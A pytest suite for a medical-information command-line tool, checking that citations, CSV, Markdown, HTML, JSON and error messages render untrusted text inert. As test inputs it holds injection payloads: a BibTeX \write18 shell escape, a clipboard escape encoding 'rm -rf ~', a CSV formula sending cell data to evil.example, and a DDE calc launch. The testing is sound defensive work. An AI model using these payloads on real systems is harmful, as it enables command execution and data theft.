"""Text someone else can write (a dataset, a file name, the environment) stays inert everywhere:
citations, CSV, Markdown, HTML, messages and `validate`; odd COLUMNS and TERM values never
break a run."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import select
import subprocess
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
import tomli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hfs_info import dataset, store, text
from tests.conftest import SCRIPT
from tests.depth import examples

PACKAGED = files("hfs_info.data").joinpath(store.PACKAGED_NAME).read_text("utf-8")
# Characters that show nothing (zero-width, word joiner, BOM, soft hyphen, line and paragraph
# separators, tag characters, noncharacters).
INVISIBLE = (
    "\u00ad\u200b-\u200d\u2028\u2029\u2060\ufeff\U000e0000-\U000e007f\ufdd0-\ufdef\ufffe\uffff"
)
# Raw controls, C1 and bidi characters, and the invisible ones, except the \r\n line ends of
# CSV and RIS (removed before checking).
RAW = re.compile(
    f"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069{INVISIBLE}]"
)
# An OSC 52 clipboard write, an OSC 0 title, a screen clear, a C1 CSI and a bidi override.
ESCAPES = "\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
INVISIBLES = "\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0041\u2028\u2029\ufffe\uffff\U0010ffff"


def edit(old: str, new: str, count: int = 1, source: str = PACKAGED) -> str:
    assert old in source, old
    return source.replace(old, new, count)


def write(tmp_path: Path, text_: str, name: str = "edition.toml") -> str:
    path = tmp_path / name
    path.write_text(text_, "utf-8")
    return str(path)


def toml_string(value: str) -> str:
    """``value`` as a TOML basic string (every character written, controls escaped)."""
    out = []
    for c in value:
        if c in '"\\':
            out.append("\\" + c)
        elif ord(c) < 0x20 or ord(c) == 0x7F:
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(c)
    return '"' + "".join(out) + '"'


# --- cite ------------------------------------------------------------------------------------

EVIL_TITLE = (
    "Recurrence" + ESCAPES + '}\n@preamble{"\\immediate\\write18{touch /tmp/pwned}"}\n'
    "@misc{x,\n  note = {"
)
EVIL_JOURNAL = "Neurosurgery\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - Injected record\r\n"


@pytest.fixture
def evil_citations(tmp_path: Path) -> str:
    source = edit(
        'title = "Recurrence of hemifacial spasm after microvascular decompression"',
        f"title = {toml_string(EVIL_TITLE)}",
    )
    source = edit('journal = "Neurosurgery"', f"journal = {toml_string(EVIL_JOURNAL)}", 1, source)
    source = edit('series = "Mayfield Certified Health Info"', 'series = "50% & $5_~^#"', 1, source)
    return write(tmp_path, source)


@pytest.mark.parametrize("style", ["apa", "bibtex", "ris"])
def test_citations_show_no_escape_codes(run, evil_citations: str, style: str) -> None:
    result = run("--data", evil_citations, "cite", "--style", style)
    assert result.status == 0, result.stderr
    assert not RAW.search(result.stdout.replace("\r\n", "\n"))
    shown = "^[]52;c;cm0gLXJmIH4K^G"
    if style == "bibtex":
        shown = shown.replace("^", r"\textasciicircum{}")
    assert shown in result.stdout and "<U+202E>" in result.stdout


def bibtex_entries(bib: str) -> list[tuple[str, dict[str, str]]]:
    """A small BibTeX reader that counts braces as BibTeX does (a backslash escapes none)."""
    entries = []
    pos = 0
    while (at := bib.find("@", pos)) != -1:
        kind_end = bib.index("{", at)
        kind, depth, i = bib[at + 1 : kind_end], 1, kind_end + 1
        while depth:
            depth += {"{": 1, "}": -1}.get(bib[i], 0)
            i += 1
        body = bib[kind_end + 1 : i - 1]
        fields = dict(re.findall(r"^  (\w+) = \{(.*)\},?$", body, re.MULTILINE))
        entries.append((kind, fields))
        pos = i
    return entries


def test_bibtex_values_cannot_open_entries_or_run_commands(run, evil_citations: str) -> None:
    bib = run("--data", evil_citations, "cite", "--style", "bibtex").stdout
    entries = bibtex_entries(bib)
    assert [kind for kind, _ in entries] == ["misc", "article", "article"]
    title = entries[1][1]["title"]
    assert "@preamble" in title  # shown as text inside the title, where BibTeX ignores it
    # Every backslash starts one of our escapes: no \immediate, no \write18.
    ours = {"textbackslash", "textbraceleft", "textbraceright", "textasciitilde", "textasciicircum"}
    assert set(re.findall(r"\\([a-z]+)", bib)) == ours
    assert "\\write18" not in bib and "\\immediate" not in bib
    assert entries[0][1]["note"].startswith(r"50\% \& \$5\_\textasciitilde{}\textasciicircum{}\#")


def test_ris_values_cannot_start_tags_or_records(run, evil_citations: str) -> None:
    ris = run("--data", evil_citations, "cite", "--style", "ris").stdout
    lines = ris.split("\r\n")
    assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - .*|", line) for line in lines)
    assert sum(line.startswith("TY  - ") for line in lines) == 3
    assert sum(line.startswith("ER  - ") for line in lines) == 3
    assert "JO  - Neurosurgery ER - TY - JOUR TI - Injected record" in lines


# --- validate, messages ----------------------------------------------------------------------


def test_validate_shows_a_hostile_file_name_inert(run, tmp_path: Path) -> None:
    name = "ok\x1b]0;PWNED\x07\x1b[2J\nhfs-info: forged.toml"
    path = write(tmp_path, PACKAGED, name)
    result = run("validate", path)
    assert result.status == 0
    assert result.stdout == (
        f"'{tmp_path}/ok\\x1b]0;PWNED\\x07\\x1b[2J\\nhfs-info: forged.toml': valid "
        "(14 statistics, 11 terms)\n"
    )


def test_a_newline_in_a_path_cannot_split_the_error_line(run) -> None:
    result = run("--data", "nosuch\nhfs-info: dataset verified OK, 0 problems\nx", "stats")
    assert result.status == 2
    assert result.stderr == (
        "hfs-info: 'nosuch\\nhfs-info: dataset verified OK, 0 problems\\nx': "
        "no such file or directory\n"
    )


def test_validate_of_an_empty_path_does_not_blame_data(run) -> None:
    result = run("validate", "")
    assert result.status == 2
    assert result.stdout == "validate: the path is empty; give the path of a dataset file\n"
    assert "--data" not in result.stdout + result.stderr


def test_export_to_an_empty_path_says_so(run) -> None:
    result = run("export", "-o", "")
    assert result.status == 2
    assert result.stderr == (
        "hfs-info: export --output: the path is empty; give a file name, or - for stdout\n"
    )


# --- CSV -------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\uff1d1+1"]  # fmt: skip


def test_csv_cells_that_would_run_as_formulas_are_quoted(run, tmp_path: Path) -> None:
    source = PACKAGED
    generics = [m["generic"] for m in tomli.loads(PACKAGED)["medications"]]
    for generic, formula in zip(generics, FORMULAS, strict=False):
        source = edit(f'generic = "{generic}"', f"generic = {toml_string(formula)}", 1, source)
    result = run("--data", write(tmp_path, source), "medications", "--format", "csv")
    assert result.status == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    shown = [row[1] for row in rows[1:]]
    assert shown == ["'" + f for f in FORMULAS[: len(shown)]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_csv_keeps_numbers_as_numbers(run) -> None:
    rows = list(csv.reader(io.StringIO(run("stats", "--format", "csv").stdout, newline="")))
    assert rows[1][:2] == ["onset-near-eye", "92"]


# --- invisible characters, Markdown, HTML ----------------------------------------------------


@given(st.sampled_from(INVISIBLES))
def test_inert_shows_every_invisible_character(char: str) -> None:
    shown = text.inert(f"a{char}b")
    assert shown == f"a<U+{ord(char):04X}>b"


def test_xml_safe_replaces_what_xml_refuses() -> None:
    import xml.etree.ElementTree as ET

    raw = "ok\x00\x08\x0b\x1b\x7f\x85\ud800\ufdd0\ufffe\uffff\U0001fffe\tnew\nline"
    safe = text.xml_safe(raw)
    assert safe == "ok" + "\ufffd" * 11 + "\tnew\nline"
    ET.fromstring(f"<t>{safe}</t>")


def test_one_line_folds_newlines() -> None:
    assert text.one_line("a\nb\r\nc\x1b") == "a^Jb^M^Jc^["


@pytest.mark.parametrize("fmt", ["table", "plain", "markdown", "csv"])
def test_invisible_characters_are_shown_in_text_formats(run, tmp_path: Path, fmt: str) -> None:
    definition = f"Safe{INVISIBLES}dose"
    raw = tomli.loads(PACKAGED)
    botox = next(e for e in raw["glossary"] if e["term"] == "Botox")
    source = edit(toml_string(botox["definition"]), toml_string(definition))
    result = run(
        "--data", write(tmp_path, source), "glossary", "botulinum toxin type A", "--format", fmt
    )
    assert result.status == 0, result.stderr
    shown = result.stdout.replace("\r\n", "\n")
    assert not RAW.search(shown)
    unwrapped = "".join(shown.split())  # a table folds long words
    assert all(f"U+{ord(c):04X}" in unwrapped for c in INVISIBLES)


def test_json_escapes_invisible_characters_and_keeps_the_string(run, tmp_path: Path) -> None:
    raw = tomli.loads(PACKAGED)
    botox = next(e for e in raw["glossary"] if e["term"] == "Botox")
    source = edit(toml_string(botox["definition"]), toml_string(f"x{INVISIBLES}y"))
    result = run(
        "--data", write(tmp_path, source), "glossary", "botulinum toxin type A", "--format", "json"
    )
    assert not RAW.search(result.stdout)
    assert "\\u200b" in result.stdout and "\\udb40\\udc41" in result.stdout
    assert json.loads(result.stdout)["term"]["definition"] == f"x{INVISIBLES}y"


def test_markdown_shows_entities_and_emoji_codes_as_written(run, tmp_path: Path) -> None:
    from markdown_it import MarkdownIt

    words = "&lt;script&gt; &amp; &rlm; &#x202E; :pill: :warning: time 10:30"
    source = edit('term = "Botox"', f"term = {toml_string('Botox ' + words)}")
    result = run(
        "--data", write(tmp_path, source), "glossary", "botulinum toxin type A", "-f", "markdown"
    )
    assert result.status == 0, result.stderr
    assert r"\&lt;script\&gt; \&amp; \&rlm; \&\#x202E; \:pill: \:warning: time 10:30" in (
        result.stdout
    )
    html = MarkdownIt("commonmark").render(result.stdout)
    assert "&amp;lt;script&amp;gt; &amp;amp; &amp;rlm; &amp;#x202E; :pill:" in html


def test_html_export_holds_no_character_xml_refuses(run, tmp_path: Path) -> None:
    raw = tomli.loads(PACKAGED)
    botox = next(e for e in raw["glossary"] if e["term"] == "Botox")
    source = edit(toml_string(botox["definition"]), toml_string(f"x{INVISIBLES}\x85y"))
    page = run("--data", write(tmp_path, source), "export", "--format", "html").stdout
    assert not re.search(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f{INVISIBLE}]", page)
    assert "x&lt;U+200B&gt;" in page


# --- validate: names that look alike ---------------------------------------------------------


@pytest.fixture
def raw() -> dict[str, Any]:
    return tomli.loads(PACKAGED)


def problems(raw: dict[str, Any]) -> list[str]:
    built, found = dataset.build(raw)
    assert built is None
    return found


def test_a_term_with_an_invisible_character_is_refused(raw: dict[str, Any]) -> None:
    botox = next(i for i, e in enumerate(raw["glossary"]) if e["term"] == "Botox")
    raw["glossary"].append(
        {
            "id": "botox-2",
            "term": "Bo\u200btox",
            "definition": "Safe at any dose.",
            "aliases": ["\ufeffbotox shots"],
            "origin": "glossary",
        }
    )
    n = len(raw["glossary"]) - 1
    assert problems(raw) == [
        f"glossary[{n}].term: invisible character U+200B in a name",
        f"glossary[{n}].aliases[0]: invisible character U+FEFF in a name",
        f"glossary[{n}]: name 'botox' is also used by glossary[{botox}]",
    ]


@pytest.mark.parametrize("lookalike", ["ＢＯＴＯＸ", "Botox\u0301", "BOTOX"])
def test_terms_that_look_alike_are_refused(raw: dict[str, Any], lookalike: str) -> None:
    botox = next(i for i, e in enumerate(raw["glossary"]) if e["term"] == "Botox")
    raw["glossary"].append(
        {"id": "x", "term": lookalike, "definition": "d", "aliases": [], "origin": "glossary"}
    )
    n = len(raw["glossary"]) - 1
    assert problems(raw) == [f"glossary[{n}]: name 'botox' is also used by glossary[{botox}]"]


def test_lookalike_key() -> None:
    assert text.lookalike("Bo\u200btox") == text.lookalike("ＢＯＴＯＸ") == "botox"
    assert text.lookalike("Bell\u2019s palsy") == "bells palsy"


# --- the environment -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "columns", ["²", "①", "⁸⁰", "8²", "٨٠", "9" * 5000, "-5", "", " ", "1e3", "80abc"]
)
def test_any_columns_value_works(run, monkeypatch, columns: str) -> None:
    monkeypatch.setenv("COLUMNS", columns)
    monkeypatch.setenv("LINES", columns)
    result = run("glossary", "mvd", "--format", "json")
    assert result.status == 0, result.stderr
    assert run("glossary", "mvd").status == 0


def run_on_a_pty(env: dict[str, str], *args: str) -> bytes:
    """hfs-info with stdout on a pseudo-terminal; everything it wrote there."""
    import pty

    base = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "FORCE_COLOR")}
    leader, follower = pty.openpty()
    try:
        process = subprocess.Popen(
            [str(SCRIPT), *args], stdout=follower, stderr=subprocess.PIPE, env={**base, **env}
        )
        os.close(follower)
        chunks = []
        while select.select([leader], [], [], 60)[0]:  # a hung run fails instead of blocking
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the other end is closed
                break
            if not chunk:
                break
            chunks.append(chunk)
        assert process.wait(timeout=60) == 0
    finally:
        os.close(leader)
    return b"".join(chunks)


def test_term_dumb_on_a_terminal_gets_no_escape_codes() -> None:
    coloured = run_on_a_pty({"TERM": "xterm-256color", "COLUMNS": "80"}, "glossary", "mvd")
    assert b"\x1b[" in coloured  # the same run on a capable terminal is coloured
    dumb = run_on_a_pty({"TERM": "dumb", "COLUMNS": "80"}, "glossary", "mvd")
    assert b"\x1b" not in dumb
    assert b"microvascular decompression" in dumb.lower()


# --- file names in every message ---------------------------------------------------------------

# Any name a file can have in a folder: no "/" or NUL, not "." or "..".
_FILE_NAMES = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="/\x00"), min_size=1, max_size=24
).filter(lambda name: name not in (".", "..") and len(name.encode()) < 200)
_CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f]")


def _one_inert_line(stderr: str, name: str) -> None:
    """One line, no control character but its end, naming the file as lookups show names."""
    assert stderr.endswith("\n") and stderr.count("\n") == 1, stderr
    assert not _CONTROLS.search(stderr[:-1]), stderr
    assert text.shown_name(name) in stderr or text.shown_name(name).strip("'\"") in stderr


@pytest.mark.parametrize(
    "case", ["fill-missing", "fill-error", "fill-check", "export-o", "data", "validate"]
)
@settings(
    max_examples=examples(25),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(name=_FILE_NAMES)
def test_any_file_name_is_shown_inert_on_one_line(
    run, tmp_path: Path, case: str, name: str
) -> None:
    """The name is the user's, the message is ours: whatever the name holds (ESC, BEL, a
    newline, C1 controls, bidi overrides), it shows as text, as a lookup shows what was typed
    ('x\\x1b[2Jy'), and the message stays one line."""
    folder = tmp_path / "d"
    folder.mkdir(exist_ok=True)
    path = folder / name
    for old in folder.iterdir():
        old.unlink()
    if case == "fill-missing":
        result = run("fill", str(path))
    elif case in ("fill-error", "fill-check"):
        marker = "glossary nosuch" if case == "fill-error" else "glossary mvd"
        path.write_text(f"<!-- hfs-info {marker} -->\n<!-- /hfs-info -->\n", "utf-8")
        result = run("fill", *(["--check"] if case == "fill-check" else []), str(path))
        if case == "fill-check":  # its report is on stdout, one line a region
            assert result.status == 1 and result.stderr == ""
            _one_inert_line(result.stdout, str(path))
            return
    elif case == "export-o":
        result = run("export", "-o", str(path / "x.md"))
    elif case == "data":
        result = run("--data", str(path), "stats")
    else:  # a file validate cannot read is an error on stderr, as any command's
        result = run("validate", str(path))
    assert result.status == 2 and result.stdout == ""
    _one_inert_line(result.stderr, str(path))


@settings(
    max_examples=examples(25),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(name=_FILE_NAMES)
def test_a_diff_names_any_file_as_git_does(run, tmp_path: Path, name: str) -> None:
    """The --diff headers quote a name with C escapes where it needs them (git's way), so the
    patch stays well formed and names the file it changes."""
    folder = tmp_path / "d"
    folder.mkdir(exist_ok=True)
    for old in folder.iterdir():
        old.unlink()
    path = folder / name
    path.write_text("<!-- hfs-info glossary mvd -->\n<!-- /hfs-info -->\n", "utf-8")
    result = run("fill", "--diff", str(path))
    assert result.status == 0 and result.stderr == ""
    head = result.stdout.split("\n")[:2]
    quoted = text.c_quoted(str(path))
    assert head == [f"--- {quoted}", f"+++ {quoted}"]
    assert not _CONTROLS.search(result.stdout.replace("\n", ""))
    assert _c_unquoted(quoted) == str(path)


def _c_unquoted(name: str) -> str:
    """A name as git reads one back from a patch's header."""
    if not name.startswith('"'):
        return name
    escapes = {"a": 7, "b": 8, "t": 9, "n": 10, "v": 11, "f": 12, "r": 13, '"': 34, "\\": 92}
    out, body, i = bytearray(), name[1:-1], 0
    while i < len(body):
        if body[i] != "\\":
            out += body[i].encode()
            i += 1
        elif body[i + 1] in escapes:
            out.append(escapes[body[i + 1]])
            i += 2
        else:
            out.append(int(body[i + 1 : i + 4], 8))
            i += 4
    return out.decode("utf-8", "surrogateescape")


def test_the_json_writers_set_of_unsafe_characters_is_its_class() -> None:
    """render/json.py answers "anything to escape?" from the ranges of its regular expression's
    class, compiled only when needed: the two must agree on every character, alone and beside
    others (ASCII or not)."""
    import re

    from hfs_info.render import json as json_render

    pattern = re.compile(f"[{json_render.UNSAFE_CLASS}]")
    chars = json_render.class_chars(json_render.UNSAFE_CLASS)
    for code in range(0x110000):
        char = chr(code)
        unsafe = bool(pattern.fullmatch(char))
        assert (char in chars) == unsafe, hex(code)
        assert json_render._any_unsafe(char) == unsafe, hex(code)
        if code % 97 == 0:
            assert json_render._any_unsafe(f"a\u00e9{char}z") == unsafe, hex(code)


@given(st.text())
@settings(max_examples=examples(200))
def test_json_dumps_escapes_exactly_what_the_class_names(text: str) -> None:
    from hfs_info.render import json as json_render

    dumped = json_render.dumps({"t": text})
    read = json.loads(dumped)["t"]
    assert read == "".join("\ufffd" if 0xD800 <= ord(c) <= 0xDFFF else c for c in text)
    surrogates = {chr(c) for c in range(0xD800, 0xE000)}
    unsafe = json_render.class_chars(json_render.UNSAFE_CLASS) - surrogates
    assert not unsafe & set(dumped)


def test_the_docs_show_a_newline_in_a_name_as_messages_do(run, tmp_path: Path, monkeypatch) -> None:
    """Trial 6, 3.2: docs/formats.md said a newline in a path shows as ^J; a name the user
    gives is quoted with escapes. The example the docs give is the message a run prints."""
    docs = (Path(__file__).parents[1] / "docs" / "formats.md").read_text("utf-8")
    shown = re.search(r"`hfs-info fill \$'no\\nsuch\.md'` says `(.*?)`\.", docs, re.S)
    assert shown is not None
    monkeypatch.chdir(tmp_path)
    result = run("fill", "no\nsuch.md")
    assert result.status == 2
    assert result.stderr == " ".join(shown[1].split()) + "\n"
    assert "^J" not in result.stderr
